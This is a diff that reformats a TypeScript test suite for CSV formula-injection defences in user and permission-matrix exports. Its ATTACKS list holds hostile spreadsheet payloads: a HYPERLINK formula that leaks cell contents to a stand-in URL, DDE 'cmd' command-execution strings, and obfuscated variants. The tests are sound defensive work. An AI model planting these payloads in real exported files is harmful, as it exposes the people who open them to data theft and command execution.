@@ -17,11 +17,21 @@ function parseCsv(text: string): string[][] {
   for (let i = 0; i < text.length; i++) {
     const ch = text[i];
     if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (ch === '"') quoted = false; else cell += ch;
+      if (ch === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (ch === '"') quoted = false;
+      else cell += ch;
     } else if (ch === '"') quoted = true;
-    else if (ch === ',') { row.push(cell); cell = ''; } else if (ch === '\n' || ch === '\r') {
+    else if (ch === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (ch === '\n' || ch === '\r') {
       if (ch === '\r' && text[i + 1] === '\n') i++;
-      row.push(cell); rows.push(row); row = []; cell = '';
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
     } else cell += ch;
   }
   return rows;
@@ -33,8 +43,20 @@ const isPlainNumber = (cell: string): boolean => /^[+-]?\d+(?:\.\d+)?$/.test(cel
 const runsAsFormula = (cell: string): boolean => FORMULA.test(cell) && !isPlainNumber(cell);
 
 const ATTACKS = [
-  '=HYPERLINK("https://x/?"&E2,"Open")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  '\t=1+1', '\r=1+1', '  =1+1', '\u3000=1', '＝HYPERLINK("https://x")', '＋1+1', '－1+1', '＠SUM(A1)', '\tplain', '\rplain',
+  '=HYPERLINK("https://x/?"&E2,"Open")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '  =1+1',
+  '\u3000=1',
+  '＝HYPERLINK("https://x")',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(A1)',
+  '\tplain',
+  '\rplain',
 ];
 
 describe('CSV formula injection (users, roles, permission matrix)', function () {
@@ -72,15 +94,24 @@ describe('CSV formula injection (users, roles, permission matrix)', function () 
 
   it('fuzz: no exported cell runs as a formula, and removing the added apostrophe gives the text back', () => {
     const trigger = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', ' ', '\u3000', '\n', "'");
-    const text = fc.oneof(anyString(30), fc.tuple(fc.array(trigger, { maxLength: 3 }), anyString(20)).map(([t, rest]) => t.join('') + rest));
-    fuzz(text, (t) => {
-      const out = neutraliseFormula(t);
-      assert.ok(out === t || out === `'${t}`, 'only an apostrophe is ever added');
-      assert.ok(!runsAsFormula(out), `runs as a formula: ${JSON.stringify(out)}`);
-      const [, users] = parseCsv(formatUsers([{ ...ALICE, nickname: t }], 'csv'));
-      assert.equal(users[1], out, 'the user export writes the neutralised nickname, nothing else changed');
-      const [, roles] = parseCsv(matrixToCsv(buildPermissionMatrix({ traceId: '', roles: [{ key: t, roleName: t, roleChineseName: t, privileges: [] }] }), 'en'));
-      assert.ok(!runsAsFormula(roles[0]), `matrix cell runs as a formula: ${JSON.stringify(roles[0])}`);
-    }, 600);
+    const text = fc.oneof(
+      anyString(30),
+      fc.tuple(fc.array(trigger, { maxLength: 3 }), anyString(20)).map(([t, rest]) => t.join('') + rest),
+    );
+    fuzz(
+      text,
+      (t) => {
+        const out = neutraliseFormula(t);
+        assert.ok(out === t || out === `'${t}`, 'only an apostrophe is ever added');
+        assert.ok(!runsAsFormula(out), `runs as a formula: ${JSON.stringify(out)}`);
+        const [, users] = parseCsv(formatUsers([{ ...ALICE, nickname: t }], 'csv'));
+        assert.equal(users[1], out, 'the user export writes the neutralised nickname, nothing else changed');
+        const [, roles] = parseCsv(
+          matrixToCsv(buildPermissionMatrix({ traceId: '', roles: [{ key: t, roleName: t, roleChineseName: t, privileges: [] }] }), 'en'),
+        );
+        assert.ok(!runsAsFormula(roles[0]), `matrix cell runs as a formula: ${JSON.stringify(roles[0])}`);
+      },
+      600,
+    );
   });
 });
